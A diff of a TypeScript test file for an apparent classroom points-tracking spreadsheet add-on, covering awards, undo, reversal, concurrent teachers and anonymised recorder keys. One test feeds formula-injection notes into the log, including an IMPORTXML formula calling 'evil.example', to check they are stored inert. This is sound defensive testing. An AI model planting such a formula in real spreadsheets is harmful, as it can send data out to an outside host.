@@ -1,4 +1,6 @@
 import { describe, expect, it } from 'vitest';
+import { eventToRow, LOG_COL, LOG_WIDTH } from '../../shared/points/log.ts';
+import type { PointEvent } from '../../shared/points/types.ts';
 import { formGroupsRequest, open, otherUser, ROSTER_ZH, type Session } from './helpers.ts';
 
 /** A spreadsheet with the sample class grouped (分组 sheet written by the add-on). */
@@ -9,6 +11,20 @@ const grouped = async (locale = 'zh-CN'): Promise<Session> => {
 };
 
 const logRows = (s: Session): unknown[][] => s.si.workbook.sheet('积分记录').values().slice(1);
+
+/** A log row as written by the add-on, for a log a test fills in itself. */
+const logRow = (e: Partial<PointEvent> & Pick<PointEvent, 'eventId' | 'studentId'>): unknown[] =>
+  eventToRow({
+    timestamp: '2026-11-01T00:00:00.000Z',
+    studentName: '',
+    group: '',
+    category: '学习',
+    points: 1,
+    note: '',
+    userKey: '',
+    reverses: null,
+    ...e,
+  }).map((c) => (typeof c === 'string' && c.startsWith("'") ? c.slice(1) : c));
 
 describe('Scoring sidebar: awards, undo, reversal', () => {
   it('starts from the current grouping with the default categories and zero totals', async () => {
@@ -21,20 +37,29 @@ describe('Scoring sidebar: awards, undo, reversal', () => {
     expect(Object.values(st.totals).every((t) => t === 0)).toBe(true);
   });
 
-  it('appends one log row per student with id, ISO time, name, group, category, points, note and recorder', async () => {
+  it('appends one log row per student: local time, name, id, group, category, points, note; ids hidden at the end', async () => {
     const s = await grouped();
     const g = s.call('scoringState').groups[0];
     const ids = g.members.slice(0, 2).map((m: { id: string }) => m.id);
     const r = s.call('awardPoints', { studentIds: ids, category: '学习', points: 2, note: '主动发言' });
     expect(r.ok).toBe(true);
     expect(r.entries).toHaveLength(2);
+    const log = s.si.workbook.sheet('积分记录');
     const rows = logRows(s);
     expect(rows).toHaveLength(2);
-    for (const row of rows) {
-      expect(ids).toContain(row[2]);
-      expect(row[1]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
-      expect(row.slice(4, 9)).toEqual([g.name, '学习', 2, '主动发言', 'teacher@example.com']);
+    for (const [i, row] of rows.entries()) {
+      expect(ids).toContain(row[LOG_COL.studentId]);
+      expect(row[LOG_COL.time]).toBeInstanceOf(Date);
+      // What the teacher sees: the time in the spreadsheet's zone (Asia/Shanghai), not a UTC ISO string.
+      const shown = log.displayValues()[i + 1]![LOG_COL.time];
+      expect(shown).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d$/);
+      expect(row[LOG_COL.instant]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
+      expect(row.slice(LOG_COL.group, LOG_COL.note + 1)).toEqual([g.name, '学习', 2, '主动发言']);
+      // Who wrote it is an anonymous key: never the teacher's email.
+      expect(String(row[LOG_COL.userKey])).not.toBe('');
+      expect(JSON.stringify(row)).not.toContain('teacher@example.com');
     }
+    expect(log.hiddenColumns).toEqual(new Set([8, 9, 10, 11, 12]));
     const st = s.call('scoringState');
     expect(st.totals[ids[0]]).toBe(2);
     expect(st.recent[0].note).toBe('主动发言');
@@ -50,10 +75,10 @@ describe('Scoring sidebar: awards, undo, reversal', () => {
     expect(u.entries).toHaveLength(g.members.length);
     const rows = logRows(s);
     expect(JSON.stringify(rows.slice(0, g.members.length))).toBe(before);
-    expect(rows.slice(g.members.length).every((r) => r[6] === 1 && r[9] !== '')).toBe(true);
+    expect(rows.slice(g.members.length).every((r) => r[LOG_COL.points] === 1 && r[LOG_COL.reverses] !== '')).toBe(true);
     const st = s.call('scoringState');
     expect(g.members.every((m: { id: string }) => st.totals[m.id] === 0)).toBe(true);
-    expect(s.call('undoLast')).toMatchObject({ ok: false, message: '没有可以撤销的操作。' });
+    expect(s.call('undoLast')).toMatchObject({ ok: false, message: '您没有可以撤销的记分。' });
   });
 
   it('reverses any past entry once; a second reversal is refused with a sentence', async () => {
@@ -67,7 +92,7 @@ describe('Scoring sidebar: awards, undo, reversal', () => {
     expect(st.totals[a.id]).toBe(0);
     expect(st.totals[b.id]).toBe(1);
     expect(st.recent.find((e: { eventId: string }) => e.eventId === first.eventId).reversed).toBe(true);
-    expect(s.call('reverseEntry', first.eventId)).toMatchObject({ ok: false, message: '这条记录已经撤销过了。' });
+    expect(s.call('reverseEntry', first.eventId)).toMatchObject({ ok: false, message: '这条记录已经撤回过了。' });
   });
 
   it('refuses awards before any grouping, for unknown students and with no category, saying what to do', async () => {
@@ -97,7 +122,12 @@ describe('Scoring sidebar: awards, undo, reversal', () => {
         .flat()
         .filter((f) => f !== ''),
     ).toEqual([]);
-    expect(logRows(s).map((r) => r[7])).toEqual(['=IMPORTXML("http://evil.example","//a")', '+1', '-2', '@x']);
+    expect(logRows(s).map((r) => r[LOG_COL.note])).toEqual([
+      '=IMPORTXML("http://evil.example","//a")',
+      '+1',
+      '-2',
+      '@x',
+    ]);
   });
 });
 
@@ -143,11 +173,13 @@ describe('Concurrency: several teachers at once lose nothing', () => {
     expect(busy.message).toMatch(/排队/);
     expect(a.si.workbook.findSheet('积分记录')).toBeUndefined();
     a.si.endExecution(); // A's write finished
-    expect(b.call('awardPoints', req)).toMatchObject({ ok: true, actionId: 'req-0000-busy-test' });
+    expect(b.call('awardPoints', { ...req, attempt: 2 })).toMatchObject({ ok: true, actionId: 'req-0000-busy-test' });
     // The reply was lost and the sidebar retries: not written twice.
-    expect(b.call('awardPoints', req)).toMatchObject({ ok: true, duplicate: true });
+    expect(b.call('awardPoints', { ...req, attempt: 3 })).toMatchObject({ ok: true, duplicate: true });
     expect(logRows(a)).toHaveLength(1);
-    expect(logRows(a)[0]![8]).toBe('colleague@example.com');
+    // Recorded under the colleague's own anonymous key, so A's undo will never take it back.
+    expect(logRows(a)[0]![LOG_COL.userKey]).not.toBe('');
+    expect(a.call('undoLast')).toMatchObject({ ok: false, message: '您没有可以撤销的记分。' });
   });
 
   it('three teachers clicking in turn while the lock is often busy: every queued award ends up in the log', async () => {
@@ -190,7 +222,7 @@ describe('Concurrency: several teachers at once lose nothing', () => {
     });
     const rows = logRows(a);
     expect(rows).toHaveLength(n);
-    expect(new Set(rows.map((r) => r[10])).size).toBe(n);
+    expect(new Set(rows.map((r) => r[LOG_COL.actionId])).size).toBe(n);
     const total = Object.values(a.call('scoringState').totals as Record<string, number>).reduce((x, y) => x + y, 0);
     expect(total).toBe(n);
   });
@@ -205,12 +237,14 @@ describe('A log edited by hand', () => {
     const log = s.si.workbook.sheet('积分记录');
     const rows = log.values();
     // Row 3 "deleted" (cleared), a broken row 4 with points "abc", row 5 for a student no longer on the roster.
+    const broken = logRow({ eventId: 'x1', studentId: m.id, studentName: m.name });
+    broken[LOG_COL.points] = 'abc';
     s.si.workbook.setSheet('积分记录', [
       rows[0]!,
       rows[1]!,
-      ['', '', '', '', '', '', '', '', '', '', ''],
-      ['x1', '2026-11-20T08:00:00.000Z', m.id, m.name, '', '学习', 'abc', '', '', '', ''],
-      ['x2', '2026-11-20T08:00:00.000Z', 'GONE', '转学生', '', '纪律', 3, '', '', '', ''],
+      new Array(LOG_WIDTH).fill(''),
+      broken,
+      logRow({ eventId: 'x2', studentId: 'GONE', studentName: '转学生', category: '纪律', points: 3 }),
     ]);
     const st = s.call('scoringState');
     expect(st.ok).toBe(true);
@@ -238,19 +272,9 @@ describe('Cost of an award', () => {
       s.call('awardPoints', { studentIds: [m.id], category: '学习', points: 1 });
       const log = s.si.workbook.sheet('积分记录');
       const header = log.values()[0]!;
-      const filler = Array.from({ length: logLength }, (_, i) => [
-        `e${i}`,
-        '2026-11-01T00:00:00.000Z',
-        m.id,
-        m.name,
-        '',
-        '学习',
-        1,
-        '',
-        '',
-        '',
-        `e${i}`,
-      ]);
+      const filler = Array.from({ length: logLength }, (_, i) =>
+        logRow({ eventId: `e${i}`, studentId: m.id, studentName: m.name }),
+      );
       s.si.workbook.setSheet('积分记录', [header, ...filler]);
       // A sheet filled to its last row grows once by 1,000 rows on the next append; measure the award after that.
       s.si.workbook.resetStats();
@@ -271,7 +295,7 @@ describe('Cost of an award', () => {
     const count = (x: typeof small) => Object.values(x.calls).reduce((a, b) => a + b, 0);
     expect(large.calls).toEqual(small.calls);
     expect(count(large)).toBe(count(small));
-    expect(large.cellsRead).toBe(small.cellsRead); // the grouping and a 50-row tail; never the whole log
+    expect(large.cellsRead).toBe(small.cellsRead); // the grouping only; a first attempt never reads the log
     expect(large.calls['Range.setValues']).toBe(1);
   });
 });
@@ -284,7 +308,7 @@ describe('Reversal while a colleague works', () => {
     a.call('awardPoints', { studentIds: [m.id], category: '学习', points: 2 });
     const entry = a.call('scoringState').recent[0];
     expect(b.call('reverseEntry', entry.eventId).ok).toBe(true);
-    expect(a.call('reverseEntry', entry.eventId)).toMatchObject({ ok: false, message: '这条记录已经撤销过了。' });
+    expect(a.call('reverseEntry', entry.eventId)).toMatchObject({ ok: false, message: '这条记录已经撤回过了。' });
     expect(logRows(a)).toHaveLength(2);
     expect(a.call('scoringState').totals[m.id]).toBe(0);
   });
